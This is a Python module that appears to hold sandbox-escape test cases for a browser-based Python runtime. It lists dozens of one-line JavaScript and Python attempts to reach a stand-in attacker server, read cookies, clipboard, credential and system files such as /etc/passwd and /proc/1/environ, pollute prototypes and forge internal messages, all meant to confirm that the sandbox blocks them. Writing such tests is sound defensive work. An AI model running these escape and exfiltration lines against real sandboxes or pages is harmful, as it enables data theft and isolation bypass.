"""Ways out of the wall, each tried by a program in it, and once more in the document of its frame.

Each is the body of an asynchronous JavaScript function that knows `EVIL` (a server of another origin, which counts what
reaches it) and `OWN` (the app's own address). It gives what it got hold of; nothing, or an error, where it got nothing.
"""

# ruff: noqa: E501 - each way out is one line of JavaScript
from __future__ import annotations

#: in the worker, where a program runs
IN_THE_WORKER: dict[str, str] = {
    "origin": "return self.origin === 'null' ? '' : self.origin",
    "indexedDB": "const r = indexedDB.open('drleelm'); return await new Promise((y, n) => { r.onsuccess = () => y('open'); r.onerror = n; })",
    "indexedDB databases": "return (await indexedDB.databases()).map(one => one.name).join() || 'listed'",
    "caches": "return (await caches.keys()).join() || 'listed'",
    "origin private files": "return String(await navigator.storage.getDirectory())",
    "storage estimate": "return (await navigator.storage.estimate()).usage > 0 ? 'measured' : ''",
    "locks": "return String(await navigator.locks.query())",
    "fetch elsewhere": "return (await fetch(EVIL + 'fetch')).status",
    "fetch without cors": "return (await fetch(EVIL + 'no-cors', { mode: 'no-cors' })).type",
    "fetch once more": "return (await fetch(EVIL + 'again')).status || (await fetch(new Request(EVIL + 'request', { method: 'POST', body: 'x' }))).status",
    "the browser's own fetch": "return (await WorkerGlobalScope.prototype.fetch?.call(self, EVIL + 'own') ?? await Object.getOwnPropertyDescriptor(Object.getPrototypeOf(Object.getPrototypeOf(self)), 'fetch')?.value.call(self, EVIL + 'own'))?.status",
    "fetch home": "return (await fetch(OWN + 'index.html')).status",
    "fetch home's files": "return (await fetch(OWN + 'static/vendor/app.zip', { mode: 'no-cors' })).type",
    "fetch data": "return (await fetch('data:text/plain,x')).status",
    "fetch of another world": "return (await Object.getPrototypeOf(self).constructor.prototype.fetch?.call(self, EVIL + 'proto'))?.status",
    "keepalive": "return (await fetch(EVIL + 'keepalive', { method: 'POST', keepalive: true, body: 'x' })).status",
    "xhr": "const r = new XMLHttpRequest(); r.open('GET', EVIL + 'xhr', false); r.send(); return r.status",
    "xhr home": "const r = new XMLHttpRequest(); r.open('GET', OWN + 'index.html', false); r.send(); return r.status",
    "websocket": "const s = new WebSocket(EVIL.replace('http', 'ws')); return await new Promise((y, n) => { s.onopen = () => y('open'); s.onerror = n; })",
    "websocket stream": "return String(await new WebSocketStream(EVIL.replace('http', 'ws')).opened)",
    "event source": "const s = new EventSource(EVIL + 'events'); return await new Promise((y, n) => { s.onopen = () => y('open'); s.onerror = n; })",
    "web transport": "const t = new WebTransport(EVIL.replace('http:', 'https:')); await t.ready; return 'ready'",
    "web rtc": "return String(new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(EVIL).host }] }))",
    "beacon": "return navigator.sendBeacon(EVIL + 'beacon', 'x')",
    "import elsewhere": "return String(await import(EVIL + 'module.js'))",
    "import home": "return String(await import(OWN + 'static/vendor/scripts/storage.js'))",
    "import data": "return String((await import('data:text/javascript,export default 1')).default)",
    "importScripts": "importScripts(EVIL + 'script.js'); return 'imported'",
    "importScripts home": "importScripts(OWN + 'static/js/first.js'); return 'imported'",
    "worker elsewhere": "return await new Promise((y, n) => { const w = new Worker(EVIL + 'worker.js'); w.onmessage = () => y('ran'); w.onerror = n; })",
    "worker of home": "return await new Promise((y, n) => { const w = new Worker(OWN + 'static/js/quiet-worker.js'); w.onmessage = () => y('ran'); w.onerror = n; setTimeout(n, 500); })",
    "a worker's fetch": """const text = `fetch('${EVIL}nested').then(r => postMessage(r.status), () => postMessage(''))`;
      return await new Promise((y, n) => { const w = new Worker(URL.createObjectURL(new Blob([text]))); w.onmessage = e => y(e.data); w.onerror = n; setTimeout(n, 3000); })""",
    "a worker's database": """const text = `try { indexedDB.open('drleelm').onsuccess = () => postMessage('open'); } catch { postMessage('') }`;
      return await new Promise((y, n) => { const w = new Worker(URL.createObjectURL(new Blob([text]))); w.onmessage = e => y(e.data); w.onerror = n; setTimeout(n, 1000); })""",
    "a worker that stays": "return 'Worker' in self ? 'there' : ''",
    "shared worker": "return String(new SharedWorker(OWN + 'static/js/quiet-worker.js'))",
    "service worker": "return String(await navigator.serviceWorker.register(OWN + 'sw.js'))",
    "broadcast": "for (const name of NAMES) new BroadcastChannel(name).postMessage(['erased']); return ''",
    "listening": "return await new Promise(y => { for (const name of NAMES) new BroadcastChannel(name).onmessage = e => y('heard'); setTimeout(y, 300); })",
    "parent": "return String(self.parent.location ?? '')",
    "top": "return String(self.top.document ?? '')",
    "document": "return String(document.cookie)",
    "local storage": "return String(localStorage.length)",
    "cookie store": "return String(await cookieStore.getAll())",
    "notification": "return new Notification('x') && Notification.permission === 'granted' ? 'shown' : ''",
    "clipboard": "return await navigator.clipboard.readText()",
    "geolocation": "return await new Promise((y, n) => navigator.geolocation.getCurrentPosition(y, n))",
    "fonts": "const f = new FontFace('x', `url(${EVIL}font)`); self.fonts?.add(f); await f.load(); return 'loaded'",
    "usb": "return String(await navigator.usb.getDevices()) || 'listed'",
    "shared memory": "return typeof SharedArrayBuffer === 'undefined' || !crossOriginIsolated ? '' : 'shared'",
    "opener": "return String(self.opener ?? '')",
    "wasm from elsewhere": "return String(await WebAssembly.instantiateStreaming(fetch(EVIL + 'x.wasm')))",
    "forged messages": """const { postMessage } = MessagePort.prototype;
      await new Promise(done => { MessagePort.prototype.postMessage = function (...words) { self.stolen = this; done(); return postMessage.apply(this, words); }; PRINT('.'); setTimeout(done, 500); });
      MessagePort.prototype.postMessage = postMessage;
      const evil = JSON.parse('{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}');
      for (const message of [evil, [evil], ['__proto__', evil], ['constructor', 'x'], ['toString'], ['out', evil], ['file', evil, evil], ['file', '../../../x', new ArrayBuffer(1)],
        ['want', 901, JSON.stringify({ method: 'GET', url: EVIL + 'forged', headers: [], integrity: '' }), new ArrayBuffer(0)], ['granted', 901, 1], ['permit', 901, EVIL],
        ['want', 902, JSON.stringify({ method: 'POST', url: OWN + 'v1/models', headers: [['Authorization', 'x']], integrity: '' }), new ArrayBuffer(9)],
        ['need', 903, 'numpy'], ['want', 904, JSON.stringify({ method: 'GET', url: 'wall:/numpy.whl', headers: [], integrity: '' })], ['want', evil], ['reached', EVIL, '1'],
        ['ended'.repeat(9), evil], ['ask', evil], ['broken\\u0000', 1], null, 7, [['out'], 'x'], ['do', 'startOver'], { port: 1 }]) self.stolen?.postMessage(message);
      self.postMessage({ workers: 1 }); self.postMessage(['do', 'startOver']);
      return ''""",
    "pollution": "Object.prototype.polluted = 1; Array.prototype.polluted = 1; return ''",
}

#: how a script of another worker than the program's own says that it got somewhere
_NESTED = "const w = new Worker(URL.createObjectURL(new Blob([TEXT])), TYPE); return await new Promise((y, n) => { w.onmessage = e => y(e.data); w.onerror = n; setTimeout(n, 1500); })"


def _nested(text: str, kind: str = "{}") -> str:
    return _NESTED.replace("TEXT", f"`{text}`").replace("TYPE", kind)


# What is older or newer than the web at large, what may be taken back, and what a script may patch.
IN_THE_WORKER |= {
    "file system of old": "return String(await new Promise((y, n) => webkitRequestFileSystem(0, 1e6, y, n)))",
    "file system of old, at once": "return String(webkitRequestFileSystemSync(0, 1e6))",
    "storage buckets": "return String(await navigator.storageBuckets.open('a'))",
    "shared storage": "return String(await sharedStorage.set('a', 'b'))",
    "persisted": "return String(await navigator.storage.persist() || '')",
    "set a cookie": "await cookieStore.set('a', '1'); return 'set'",
    "a lock of the page": "return await navigator.locks.request('drleelm', () => 'locked')",
    "another world": "return String(new ShadowRealm().evaluate('1'))",
    "import json": "return String((await import(EVIL + 'a.json', { with: { type: 'json' } })).default)",
    "import css": "return String((await import(EVIL + 'a.css', { with: { type: 'css' } })).default)",
    "import by a blob": "return String(await import(URL.createObjectURL(new Blob([`export * from '${EVIL}chained.js'`], { type: 'text/javascript' }))))",
    "import the source": "return String(await eval(`import.source('${EVIL}m.wasm')`))",
    "a map of the source": "try { eval(`throw new Error(1)//# sourceURL=${EVIL}source.js\n//# sourceMappingURL=${EVIL}map.json`); } catch (e) { e.stack; } return ''",
    "the console's style": "console.log('%cx', `background: url(${EVIL}console)`); return ''",
    "fetch taken back": "delete self.fetch; return (await self.fetch(EVIL + 'deleted')).status",
    "importScripts taken back": "delete self.importScripts; self.importScripts(EVIL + 'deleted.js'); return 'imported'",
    "data worker": "const w = new Worker(`data:text/javascript,fetch('${EVIL}data').then(() => postMessage(1))`); return await new Promise((y, n) => { w.onmessage = y; w.onerror = n; setTimeout(n, 1500); })",
    "module worker": _nested("import '${EVIL}module.js'; postMessage('ran')", "{ type: 'module' }"),
    "a worker's socket": _nested(
        "new WebSocket('${EVIL.replace('http', 'ws')}nested').onopen = () => postMessage('open')"
    ),
    "a worker's script": _nested("importScripts('${EVIL}nested.js'); postMessage('ran')"),
    "a worker's worker": _nested(
        "const w = new Worker(URL.createObjectURL(new Blob([\"fetch('${EVIL}deep').then(() => postMessage('got'))\"]))); w.onmessage = e => postMessage(e.data)"
    ),
    "a picture that names another": "return String(await createImageBitmap(new Blob([`<svg xmlns='http://www.w3.org/2000/svg'><image href='${EVIL}bitmap'/></svg>`], { type: 'image/svg+xml' })))",
    "a canvas that names another": "const c = new OffscreenCanvas(9, 9).getContext('2d'); c.filter = `url(${EVIL}filter#a)`; c.font = '9px x'; c.fillText('x', 0, 0); return ''",
    "where home is": "return /^blob:null/.test(location.href) ? String(location.ancestorOrigins?.[0] ?? '') : location.href",
    "a blob of home": "const r = new XMLHttpRequest(); r.open('GET', `blob:${OWN}00000000-0000-0000-0000-000000000000`, false); r.send(); return r.status",
    "fetch later": "return String(fetchLater(EVIL + 'later'))",
    "attribution": "return (await fetch(EVIL + 'attribution', { attributionReporting: { eventSourceEligible: true, triggerEligible: true } })).status",
    "a bare socket": "return String(new TCPSocket('127.0.0.1', 80))",
    "serial ports": "return String((await navigator.serial.getPorts()).length)",
    "wake lock": "return String(await navigator.wakeLock.request())",
    "patched prototypes": """for (const [of, name] of [[Array.prototype, 'map'], [Object, 'entries'], [Promise.prototype, 'then'], [Response.prototype, 'arrayBuffer'], [TextDecoder.prototype, 'decode']]) {
        const own = of[name]; of[name] = function (...words) { self.seen = this; return own.apply(this, words); };
      }
      Object.defineProperty(Object.prototype, 'toJSON', { configurable: true, get() { return undefined; } }); return ''""",
}

#: in Python itself
IN_PYTHON = {
    "urllib": "import urllib.request\nurllib.request.urlopen(EVIL + 'urllib').status",
    "socket": "import socket\nsocket.create_connection((EVIL_HOST, EVIL_PORT), 2).send(b'GET / HTTP/1.0\\r\\n\\r\\n')",
    "pyfetch": "from pyodide.http import pyfetch\n(await pyfetch(EVIL + 'pyfetch')).status",
    "open_url": "from pyodide.http import open_url\nopen_url(EVIL + 'open-url').read()",
    "a package of elsewhere": "import pyodide_js\nawait pyodide_js.loadPackage(EVIL + 'x-1.0-py3-none-any.whl')\nimport x",
    "a package by name": "import pyodide_js\nawait pyodide_js.loadPackage('numpy')\nimport numpy\nnumpy.pi",
    "micropip": "import micropip\nawait micropip.install(EVIL + 'x-1.0-py3-none-any.whl')",
    "pyodide-http": "import pyodide_http\npyodide_http.patch_all()\nimport urllib.request\nurllib.request.urlopen(EVIL + 'http').status",
    "run js": "from pyodide.code import run_js\nrun_js('self.parent.location.href')",
    "the app": "import app.compose\napp.compose.__name__",
    "pyscript": "from pyscript import document\nstr(document)",
    "processes": "import subprocess\nsubprocess.run(['curl', EVIL])",
    "host files": "open('/etc/passwd').read().count('root:x:0') and '' or open('/proc/1/environ').read()",
}

#: in the frame's document, if a program ever got there
IN_THE_DOCUMENT = {
    "cookies": "return document.cookie",
    "set a cookie": "document.cookie = 'a=1'; return document.cookie",
    "local storage": "return String(localStorage.length)",
    "session storage": "return String(sessionStorage.length)",
    "indexedDB": IN_THE_WORKER["indexedDB"],
    "caches": IN_THE_WORKER["caches"],
    "parent's document": "return parent.document.title",
    "parent's address": "return parent.location.href",
    "top's address": "return top.location.href",
    "opener": "return opener ? String(opener.location) : ''",
    "frame element": "return frameElement ? 'found' : ''",
    "navigate top": "top.location = EVIL + 'top'; return ''",
    "replace top": "top.location.replace(EVIL + 'replace'); return ''",
    "popup": "return open(EVIL + 'popup') ? 'opened' : ''",
    "named window": "return open(EVIL + 'named', '_top') ? 'opened' : ''",
    "link": "const a = document.createElement('a'); a.href = EVIL + 'link'; a.target = '_blank'; document.documentElement.append(a); a.click(); return ''",
    "form": "const f = document.createElement('form'); f.action = EVIL + 'form'; f.method = 'post'; f.target = '_blank'; document.documentElement.append(f); f.submit(); return ''",
    "image": "new Image().src = EVIL + 'image'; return ''",
    "picture in html": "const d = document.createElement('div'); d.innerHTML = `<img src='${EVIL}html' srcset='${EVIL}srcset'>`; document.documentElement.append(d); return ''",
    "script": "const s = document.createElement('script'); s.src = EVIL + 'script'; document.documentElement.append(s); return ''",
    "inline script": "const s = document.createElement('script'); s.textContent = 'self.inline = 1'; document.documentElement.append(s); return self.inline",
    "style": "const s = document.createElement('style'); s.textContent = `@import '${EVIL}css'; html { background: url(${EVIL}background) }`; document.documentElement.append(s); return ''",
    **{
        f"link {rel}": f"const l = document.createElement('link'); l.rel = '{rel}'; l.as = 'fetch'; l.href = EVIL + '{rel}'; document.documentElement.append(l); return ''"
        for rel in (
            "stylesheet",
            "prefetch",
            "preload",
            "preconnect",
            "dns-prefetch",
            "prerender",
            "icon",
            "manifest",
            "modulepreload",
        )
    },
    "video": "const v = document.createElement('video'); v.src = EVIL + 'video'; v.poster = EVIL + 'poster'; document.documentElement.append(v); v.load(); return ''",
    "object": "const o = document.createElement('object'); o.data = EVIL + 'object'; document.documentElement.append(o); return ''",
    "frame in it": "const f = document.createElement('iframe'); f.src = EVIL + 'frame'; document.documentElement.append(f); return ''",
    "frame of home": "const f = document.createElement('iframe'); f.src = OWN; document.documentElement.append(f); await new Promise(done => setTimeout(done, 500)); return f.contentDocument?.title",
    "speculation": "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [EVIL + 'rules'] }] }); document.documentElement.append(s); return ''",
    "base": "const b = document.createElement('base'); b.href = EVIL; document.documentElement.append(b); const is = document.baseURI === EVIL; b.remove(); return is ? 'moved' : ''",
    "beacon": "navigator.sendBeacon(EVIL + 'beacon', 'x'); return ''",
    "fetch": IN_THE_WORKER["fetch elsewhere"],
    "web rtc": """const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(EVIL).host }] });
      c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); return 'offered'""",
    "storage access": "await document.requestStorageAccess(); return document.cookie || localStorage.length",
    "service worker": IN_THE_WORKER["service worker"],
    "shared worker": IN_THE_WORKER["shared worker"],
    "clipboard": "await navigator.clipboard.writeText('stolen'); return 'written'",
    "full screen": "await document.documentElement.requestFullscreen(); return 'full'",
    "notifications": "return await Notification.requestPermission() === 'granted' ? 'granted' : ''",
    "geolocation": IN_THE_WORKER["geolocation"],
    "camera": "return String(await navigator.mediaDevices.getUserMedia({ video: true }))",
    "messages to the page": "for (const m of [{ port: 1 }, ['do', 'startOver'], 'hello', { type: 'api' }]) parent.postMessage(m, '*'); return ''",
    "a looser policy": "const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = 'connect-src *'; document.head.prepend(m); return (await fetch(EVIL + 'loose')).status",
}

#: the last three, since whatever comes of them takes the document with it: no program is in the next one
LEAVING = """const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = `0; url=${EVIL}refresh`;
  document.head.append(m);
  const a = document.createElement('a'); a.href = EVIL + 'download'; a.download = 'x'; a.ping = EVIL + 'ping'; document.documentElement.append(a); a.click();
  location.href = EVIL + 'self'; return ''"""
